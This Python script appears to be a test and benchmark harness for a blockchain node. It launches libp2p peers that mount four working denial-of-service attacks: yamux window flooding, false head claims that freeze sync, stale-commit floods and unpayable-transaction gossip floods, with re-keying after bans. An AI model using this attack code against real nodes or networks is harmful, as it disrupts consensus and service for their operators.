"""Attacker-run libp2p peers with throwaway keys, as one separate process, for the network attack
tests and the security bench (issue 19's four network attacks, made from outside the node).

    python attackers.py MODE TARGET_MULTIADDR TARGET_RPC KEYDIR [--peers N] [--validator-key FILE] [--repeat]

Modes:

- ``window``: one valid blocks-by-range request, then yamux DATA as fast as it can, never waiting
  for a window update (the muxer-memory attack), on the consensus link a validator opens to it
  (a stream the validator never reads) or, from a node that opens none, on the request's stream;
- ``claim-head``: ``--peers`` peers that claim head 10^12 and never answer a block request (the
  sync-freeze attack);
- ``stale-commits``: ``--peers`` peers that open the consensus stream and send 0.9 MB commit frames
  of 9,990 signatures for height 1 (stale) in a loop; with ``--validator-key`` they first send a
  hello signed by that key (a byzantine validator), and ``--next-height`` sends them for the
  height after the target's instead (the buffer variant);
- ``unpayable``: one peer that re-publishes a batch of 800 transactions from an unfunded key on
  the transaction topic 50 times a second.

The target's chain id and genesis hash come from its RPC (public facts), so the status handshake
passes. With ``--repeat`` an attacker that is cut off or banned comes back with a fresh key (a
sustained attack, for the bench). Prints ``ATTACK MODE started`` once the attack runs, then
``ATTACK MODE sent N`` lines.
"""

from __future__ import annotations

import argparse
import json
import struct
import sys
import urllib.request
from pathlib import Path
from typing import Any

import trio

sys.path.insert(0, str(Path(__file__).resolve().parents[3]))

from p2p.host import P2PConfig, P2PHost, Verdict  # noqa: E402
from p2p.wire import (  # noqa: E402
    BLOCKS_PROTOCOL,
    CONSENSUS_PROTOCOL,
    BlocksRequest,
    BlockWithCommit,
    Status,
    encode_frame,
    encode_tx_batch,
)

CLAIMED_HEAD = 10**12


def rpc(url: str, method: str, params: list[Any] | None = None) -> Any:
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params or []}).encode()
    request = urllib.request.Request(url, body, {"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=10) as response:
        return json.loads(response.read())["result"]


class AttackerChain:
    """A chain handler that claims what the mode needs and serves nothing."""

    def __init__(self, chain_id: int, genesis_hash: bytes, head: int, answer: bool) -> None:
        self.chain_id, self.genesis_hash, self.head, self.answer = chain_id, genesis_hash, head, answer

    async def local_status(self) -> Status:
        return Status(self.chain_id, self.genesis_hash, self.head, b"\x42" * 32)

    async def serve_blocks(self, request: BlocksRequest) -> list[BlockWithCommit]:
        if not self.answer:
            await trio.sleep_forever()
        return []

    async def serve_blob(self, content_hash: bytes) -> bytes | None:
        return None

    async def on_status(self, peer: str, status: Status) -> None:
        pass

    async def on_transaction(self, raw: bytes, peer: str) -> Verdict:
        return Verdict.IGNORE

    async def on_block(self, raw: bytes, peer: str) -> Verdict:
        return Verdict.IGNORE


async def start_peer(args: argparse.Namespace, name: str, head: int, answer: bool, nursery: trio.Nursery,
                     protocols: dict[str, Any] | None = None) -> tuple[P2PHost, str]:
    import multiaddr
    from libp2p.peer.peerinfo import info_from_p2p_addr

    chain_id = int(rpc(args.rpc, "eth_chainId"), 16)
    genesis_hash = bytes.fromhex(rpc(args.rpc, "eth_getBlockByNumber", ["0x0", False])["hash"][2:])
    host = P2PHost(P2PConfig(Path(args.keydir) / f"{name}.key", port=0), AttackerChain(chain_id, genesis_hash, head, answer),
                   chain_id, genesis_hash)
    await nursery.start(host.run)
    for protocol, serve in (protocols or {}).items():
        host.add_protocol(protocol, serve)
    info = info_from_p2p_addr(multiaddr.Multiaddr(args.target))
    with trio.fail_after(30):
        await host.host.connect(info)
    return host, str(info.peer_id.to_base58())


async def window(args: argparse.Namespace, nursery: trio.Nursery) -> None:
    attempt = 0
    while True:
        async with trio.open_nursery() as own:
            await window_once(args, own, attempt)
            own.cancel_scope.cancel()
        attempt += 1
        if not args.repeat:
            return


async def window_once(args: argparse.Namespace, nursery: trio.Nursery, attempt: int) -> None:
    links: list[Any] = []
    linked = trio.Event()

    async def on_link(peer: str, stream: Any) -> None:
        # A validator links to every peer that speaks consensus, and never reads from its link.
        links.append(stream)
        linked.set()
        await trio.sleep_forever()

    host, target = await start_peer(args, f"window{attempt}", 0, True, nursery, {CONSENSUS_PROTOCOL: on_link})
    stream = await host.open_stream(target, BLOCKS_PROTOCOL)
    await stream.write(encode_frame(BlocksRequest(1, 1).encode()))
    with trio.move_on_after(3):
        await linked.wait()
    victim = links[0] if links else stream
    conn, sid = victim.muxed_stream.conn, victim.muxed_stream.stream_id
    payload = b"\xab" * (64 * 1024 - 12)
    frame = struct.pack("!BBHII", 0, 0, 0, sid, len(payload)) + payload
    print(f"ATTACK window started on the {'consensus link' if links else 'blocks request'} stream", flush=True)
    sent = 0
    try:
        # py-libp2p's writes do not fail once the other side has closed: stop on its GO_AWAY.
        while not conn.event_shutting_down.is_set():
            await conn._write_frame(frame)  # past the window: no wait for a window update
            sent += len(payload)
            if sent % (16 * 1024 * 1024) < len(payload):
                print(f"ATTACK window sent {sent}", flush=True)
    except Exception as e:
        print(f"ATTACK window failed: {type(e).__name__}: {e}", flush=True)
    print(f"ATTACK window stopped after {sent} bytes", flush=True)


async def claim_head(args: argparse.Namespace, nursery: trio.Nursery) -> None:
    async def liar(i: int) -> None:
        attempt = 0
        while True:
            async with trio.open_nursery() as own:
                host, target = await start_peer(args, f"liar{i}-{attempt}", CLAIMED_HEAD, False, own)
                while target in host.connected_peers():
                    await trio.sleep(0.5)
                own.cancel_scope.cancel()
            attempt += 1
            if not args.repeat:
                await trio.sleep_forever()

    for i in range(args.peers):
        nursery.start_soon(liar, i)
    await trio.sleep(2)
    print("ATTACK claim-head started", flush=True)


def stale_commit_frame(height: int, signatures: int = 9990) -> bytes:
    from consensus.commit import Commit
    from consensus.engine import FrameKind, encode_message

    sigs = tuple((i.to_bytes(20, "big"), b"\x1b" * 65) for i in range(1, signatures + 1))
    commit = Commit(height, b"\x11" * 32, sigs, 0)
    return encode_message(FrameKind.COMMIT, commit.encode(), b"\xc0" * 1000)


async def stale_commits(args: argparse.Namespace, nursery: trio.Nursery) -> None:
    key = bytes.fromhex(Path(args.validator_key).read_text().strip()[2:]) if args.validator_key else None
    chain_id = int(rpc(args.rpc, "eth_chainId"), 16)

    async def one(i: int) -> None:
        attempt = 0
        while True:
            async with trio.open_nursery() as own:
                await flood(i, attempt, own)
                own.cancel_scope.cancel()
            attempt += 1

    async def flood(i: int, attempt: int, own: trio.Nursery) -> None:
        host, target = await start_peer(args, f"stale{i}-{attempt}", 0, True, own)
        height = int(rpc(args.rpc, "eth_blockNumber"), 16) + 2 if args.next_height else 1
        frame = encode_frame(stale_commit_frame(height))
        sent = 0
        while not args.repeat or target in host.connected_peers():
            try:
                stream = await host.open_stream(target, CONSENSUS_PROTOCOL)
                if key is not None:
                    from node.bft.hello import Hello

                    hello = Hello.make(chain_id, host.peer_id, target, key)
                    await stream.write(encode_frame(hello.encode()))
                while True:
                    if args.next_height:
                        height = int(rpc(args.rpc, "eth_blockNumber"), 16) + 2
                        frame = encode_frame(stale_commit_frame(height))
                    await stream.write(frame)
                    sent += 1
                    if sent % 20 == 0:
                        print(f"ATTACK stale-commits peer {i} sent {sent}", flush=True)
            except Exception as e:
                print(f"ATTACK stale-commits peer {i} refused after {sent}: {type(e).__name__}: {e}", flush=True)
                await trio.sleep(0.5)
        print(f"ATTACK stale-commits peer {i} cut off; a fresh key next", flush=True)

    for i in range(args.peers):
        nursery.start_soon(one, i)
    print("ATTACK stale-commits started", flush=True)


def unpayable_batch(chain_id: int, n: int = 800) -> bytes:
    from eth_account import Account

    account = Account.create()
    raws = []
    for nonce in range(n):
        tx = {"to": "0x000000000000000000000000000000000000dEaD", "value": 1, "gas": 21000, "nonce": nonce,
              "maxFeePerGas": 10**10, "maxPriorityFeePerGas": 10**9, "chainId": chain_id, "type": 2}
        raws.append(bytes(account.sign_transaction(tx).raw_transaction))
    return encode_tx_batch(raws)


async def unpayable(args: argparse.Namespace, nursery: trio.Nursery) -> None:
    attempt = 0
    while True:
        async with trio.open_nursery() as own:
            host, target = await start_peer(args, f"unpayable{attempt}", 0, True, own)
            batch = unpayable_batch(host.chain_id)
            await trio.sleep(2)  # the gossip mesh forms on the next heartbeat
            print("ATTACK unpayable started", flush=True)
            sent = 0
            while not args.repeat or target in host.connected_peers():
                await host.publish_transaction(batch)
                sent += 1
                if sent % 100 == 0:
                    print(f"ATTACK unpayable sent {sent}", flush=True)
                await trio.sleep(1 / args.rate)
            print(f"ATTACK unpayable cut off after {sent}; a fresh key next", flush=True)
            own.cancel_scope.cancel()
        attempt += 1


async def main(args: argparse.Namespace) -> None:
    attack = {"window": window, "claim-head": claim_head, "stale-commits": stale_commits,
              "unpayable": unpayable}[args.mode]
    async with trio.open_nursery() as nursery:
        await attack(args, nursery)


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["window", "claim-head", "stale-commits", "unpayable"])
    parser.add_argument("target")
    parser.add_argument("rpc")
    parser.add_argument("keydir")
    parser.add_argument("--peers", type=int, default=1)
    parser.add_argument("--rate", type=float, default=50.0)
    parser.add_argument("--validator-key")
    parser.add_argument("--next-height", action="store_true")
    parser.add_argument("--repeat", action="store_true", help="come back with a fresh key when cut off")
    trio.run(main, parser.parse_args())
